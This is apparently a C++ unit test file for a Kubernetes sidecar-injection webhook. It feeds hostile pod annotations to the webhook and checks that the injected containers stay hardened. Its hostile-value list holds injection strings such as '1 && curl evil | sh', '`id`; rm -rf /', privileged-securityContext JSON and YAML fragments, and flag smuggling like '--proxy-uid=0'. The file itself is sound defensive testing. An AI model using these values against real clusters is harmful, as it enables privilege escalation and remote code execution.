// The sidecar and init containers run with the least they need, whatever a pod's annotations say:
// every picket.dev/* and traffic.picket.dev/* annotation (known and made up) with hostile values
// (extra flags, JSON/YAML fragments, newlines, shell, privilege words), under both bad-annotation
// policies, leaves the securityContexts, images, commands and the shape of the args as they must
// be. The rules checked here are the security contract of webhook/inject.h: annotations tune
// resources, log level, drain time, modes and capture exclusions; never images, users,
// privileges or capabilities.

#include <gtest/gtest.h>

#include <map>
#include <set>
#include <string>
#include <vector>

#include "test/unit/webhook/webhook_test_util.h"
#include "webhook/inject.h"

namespace picket::webhook {
namespace {

using nlohmann::json;
using testing::allWarnings;
using testing::applyPatch;
using testing::initOf;
using testing::kEnabledNamespace;
using testing::podWithAnnotations;
using testing::proxyOf;
using testing::testConfig;

// Every annotation inject() reads, and names an attacker might hope it reads.
std::vector<std::string> annotationNames() {
  std::vector<std::string> names;
  for (std::string_view known :
       {kProxyCpuRequestAnnotation, kProxyCpuLimitAnnotation, kProxyMemoryRequestAnnotation,
        kProxyMemoryLimitAnnotation, kProxyLogLevelAnnotation, kNativeSidecarAnnotation,
        kHoldAppAnnotation, kDrainSecondsAnnotation, kExcludeInboundPortsAnnotation,
        kExcludeOutboundPortsAnnotation, kExcludeOutboundCidrsAnnotation,
        kIncludeOutboundCidrsAnnotation}) {
    names.emplace_back(known);
  }
  for (const char* made_up :
       {"proxy-image", "init-image", "image", "proxy-uid", "proxy-gid", "run-as-user", "privileged",
        "proxy-privileged", "capabilities", "init-capabilities", "proxy-capabilities",
        "security-context", "proxy-args", "init-args", "args", "command", "proxy-command"}) {
    names.push_back(std::string("picket.dev/") + made_up);
    names.push_back(std::string("traffic.picket.dev/") + made_up);
  }
  return names;
}

// Values meant to smuggle flags, structure or privileges into the containers.
std::vector<std::string> hostileValues() {
  return {
      "--privileged",
      "-- --proxy-uid 0",
      "--proxy-uid=0",
      "info --config-yaml /etc/evil.yaml",
      "debug\n--base-id 7",
      "100m\n--concurrency 64",
      "128Mi --disable-hot-restart=false",
      "80,--proxy-uid=0",
      "80 --include-outbound-cidrs 0.0.0.0/0",
      "10.0.0.0/8\n--exclude-outbound-cidrs=0.0.0.0/0",
      "10.0.0.0/8,--proxy-uid,0",
      R"("}], "securityContext": {"privileged": true}, "x": [{")",
      R"({"privileged": true, "capabilities": {"add": ["SYS_ADMIN"]}})",
      "true\nsecurityContext:\n  privileged: true\n  runAsUser: 0",
      "5\n---\napiVersion: v1\nkind: Pod",
      "privileged",
      "true",
      "0",
      "-1",
      "SYS_ADMIN",
      "NET_ADMIN,NET_RAW,SYS_ADMIN,ALL",
      "ALL",
      "evil/envoy:latest",
      "$(POD_NAME)",
      "`id`; rm -rf /",
      "1 && curl evil | sh",
      std::string("info\0--privileged", 17),
      "\r\n--admin-address-path /tmp/x",
      std::string(5000, 'A') + " --privileged",
  };
}

// The one flag a container may carry that takes no value.
bool isSwitch(const std::string& flag) { return flag == "--disable-hot-restart"; }

// Checks that `container`'s args are flags from `allowed`, each at most once and each followed
// by one value (bar the switch), and that no value looks like a flag or holds a line break,
// other than the proxy's bootstrap, which `bootstrap` must equal.
void expectSafeArgs(const json& container, const std::set<std::string>& allowed,
                    const json& bootstrap) {
  const json& args = container["args"];
  ASSERT_TRUE(args.is_array()) << container.dump();
  std::set<std::string> seen;
  for (std::size_t i = 0; i < args.size(); ++i) {
    ASSERT_TRUE(args[i].is_string()) << args.dump();
    const std::string flag = args[i];
    EXPECT_TRUE(allowed.count(flag) == 1) << "unexpected arg " << json(flag).dump();
    EXPECT_TRUE(seen.insert(flag).second) << "repeated flag " << flag;
    if (isSwitch(flag)) continue;
    ASSERT_LT(i + 1, args.size()) << flag << " has no value";
    ASSERT_TRUE(args[i + 1].is_string()) << args.dump();
    const std::string value = args[++i];
    if (flag == "--config-yaml") {
      EXPECT_EQ(json(value), bootstrap) << "the bootstrap changed";
      continue;
    }
    EXPECT_FALSE(value.empty()) << flag;
    EXPECT_FALSE(value.starts_with("-")) << flag << " " << json(value).dump();
    for (char c : value) {
      EXPECT_TRUE(c > 0x20 && c < 0x7f)
          << flag << " value has a space or control byte: " << json(value).dump();
    }
  }
}

// The parts of a container no annotation may touch: image, command, securityContext and the
// mounts.
json hardenedParts(const json& container) {
  json parts = json::object();
  for (const char* key : {"image", "imagePullPolicy", "command", "securityContext", "volumeMounts",
                          "name", "env", "ports"}) {
    if (container.contains(key)) parts[key] = container[key];
  }
  return parts;
}

class InjectHardeningTest : public ::testing::Test {
 protected:
  InjectHardeningTest()
      : config_(testConfig()),
        plain_(testing::injected(podWithAnnotations({}), config_)),
        plain_proxy_(proxyOf(plain_)),
        plain_init_(initOf(plain_)) {}

  // Checks every rule on a pod injected with `annotations`.
  void expectHardened(const json& pod) {
    const json proxy = proxyOf(pod);
    const json init = initOf(pod);
    // The exact contexts, not just "no privileged": any added key would widen something.
    EXPECT_EQ(proxy["securityContext"], (json{{"runAsUser", config_.proxy.uid},
                                              {"runAsGroup", config_.proxy.gid},
                                              {"runAsNonRoot", true},
                                              {"readOnlyRootFilesystem", true},
                                              {"allowPrivilegeEscalation", false},
                                              {"privileged", false},
                                              {"capabilities", {{"drop", {"ALL"}}}},
                                              {"seccompProfile", {{"type", "RuntimeDefault"}}}}));
    EXPECT_NE(config_.proxy.uid, 0);
    EXPECT_EQ(init["securityContext"],
              (json{{"runAsUser", 0},
                    {"runAsGroup", 0},
                    {"runAsNonRoot", false},
                    {"privileged", false},
                    {"allowPrivilegeEscalation", false},
                    {"readOnlyRootFilesystem", true},
                    {"capabilities", {{"add", {"NET_ADMIN", "NET_RAW"}}, {"drop", {"ALL"}}}},
                    {"seccompProfile", {{"type", "RuntimeDefault"}}}}));
    EXPECT_EQ(hardenedParts(proxy), hardenedParts(plain_proxy_));
    EXPECT_EQ(hardenedParts(init), hardenedParts(plain_init_));
    EXPECT_EQ(proxy["image"], config_.proxy.image);
    EXPECT_EQ(init["image"], config_.init.image);

    const json bootstrap = testing::argAfter(plain_proxy_, "--config-yaml");
    expectSafeArgs(proxy,
                   {"--config-yaml", "--service-node", "--service-cluster", "--log-level",
                    "--concurrency", "--drain-time-s", "--drain-strategy", "--disable-hot-restart"},
                   bootstrap);
    expectSafeArgs(init,
                   {"--proxy-uid", "--proxy-gid", "--outbound-port", "--inbound-port",
                    "--exclude-inbound-ports", "--exclude-outbound-ports",
                    "--exclude-outbound-cidrs", "--include-outbound-cidrs"},
                   bootstrap);
    EXPECT_EQ(testing::argAfter(init, "--proxy-uid"), std::to_string(config_.proxy.uid));
    EXPECT_EQ(testing::argAfter(init, "--proxy-gid"), std::to_string(config_.proxy.gid));

    // The pod's own containers and its pod-level settings are untouched.
    const json original = podWithAnnotations({});
    for (const json& container : pod["spec"]["containers"]) {
      if (container["name"] == kProxyContainerName) continue;
      EXPECT_EQ(container, original["spec"]["containers"][0]);
    }
    for (const char* key : {"securityContext", "hostNetwork", "hostPID", "hostIPC",
                            "serviceAccountName", "automountServiceAccountToken"}) {
      EXPECT_FALSE(pod["spec"].contains(key)) << key;
    }
  }

  Config config_;
  json plain_;
  json plain_proxy_;
  json plain_init_;
};

// Tests every annotation name with every hostile value under ignore-annotation: the pod is
// injected (the value rejected or confined to the one setting it tunes), and the containers keep
// their exact securityContexts, images, commands and well-formed args.
TEST_F(InjectHardeningTest, NoAnnotationValueWidensTheContainers) {
  int cases = 0;
  for (const std::string& name : annotationNames()) {
    for (const std::string& value : hostileValues()) {
      SCOPED_TRACE(name + "=" + json(value.substr(0, 80)).dump());
      InjectResult result;
      const json pod = testing::injected(podWithAnnotations({{name, value}}), config_, &result);
      ASSERT_EQ(result.decision, Decision::kInject) << allWarnings(result);
      expectHardened(pod);
      // The patch adds only what inject() documents; nothing at the pod level.
      for (const json& op : result.patch) {
        const std::string path = op["path"];
        EXPECT_TRUE(path.starts_with("/metadata/annotations") ||
                    path.starts_with("/spec/initContainers") ||
                    path.starts_with("/spec/containers") || path.starts_with("/spec/volumes"))
            << path;
      }
      ++cases;
    }
  }
  EXPECT_EQ(cases, static_cast<int>(annotationNames().size() * hostileValues().size()));
}

// Tests all the hostile annotations on one pod at once, the way an attacker would send them.
TEST_F(InjectHardeningTest, AllHostileAnnotationsTogetherWidenNothing) {
  const std::vector<std::string> values = hostileValues();
  std::map<std::string, std::string> annotations;
  std::size_t next = 0;
  for (const std::string& name : annotationNames()) {
    annotations[name] = values[next++ % values.size()];
  }
  InjectResult result;
  const json pod = testing::injected(podWithAnnotations(annotations), config_, &result);
  ASSERT_EQ(result.decision, Decision::kInject);
  expectHardened(pod);
  EXPECT_FALSE(result.warnings.empty());
}

// Tests every hostile value under skip-on-bad-annotation: a pod is either left alone (no patch
// at all) or injected with the same hardened containers; never half-patched.
TEST_F(InjectHardeningTest, SkipPolicyLeavesPodAloneOrHardened) {
  config_.on_bad_annotation = BadAnnotationPolicy::kSkip;
  for (const std::string& name : annotationNames()) {
    for (const std::string& value : hostileValues()) {
      SCOPED_TRACE(name + "=" + json(value.substr(0, 80)).dump());
      const json pod = podWithAnnotations({{name, value}});
      InjectResult result = inject(pod, kEnabledNamespace, config_);
      testing::expectWellFormedWarnings(result);
      if (result.decision == Decision::kSkip) {
        EXPECT_EQ(result.patch, json::array());
        EXPECT_FALSE(result.warnings.empty());
        continue;
      }
      expectHardened(applyPatch(pod, result.patch));
    }
  }
}

// Tests that every hostile value is named back to the user in a warning (a bad value, or an
// unknown annotation), bar the few that are legitimate values of the setting: none is silently
// reinterpreted.
TEST_F(InjectHardeningTest, WarnsAboutEveryHostileValue) {
  for (const std::string& name : annotationNames()) {
    for (const std::string& value : hostileValues()) {
      SCOPED_TRACE(name + "=" + json(value.substr(0, 80)).dump());
      InjectResult result;
      testing::injected(podWithAnnotations({{name, value}}), config_, &result);
      // A value the annotation accepts ("true" for a mode, "0" for a drain time or a
      // request) is legitimate; everything else must be named in a warning.
      const bool legitimate =
          (value == "true" && (name == kNativeSidecarAnnotation || name == kHoldAppAnnotation)) ||
          (value == "0" && (name == kDrainSecondsAnnotation || name == kProxyCpuRequestAnnotation ||
                            name == kProxyMemoryRequestAnnotation));
      if (legitimate) continue;
      EXPECT_TRUE(testing::hasWarningContaining(result, name)) << allWarnings(result);
    }
  }
}

}  // namespace
}  // namespace picket::webhook
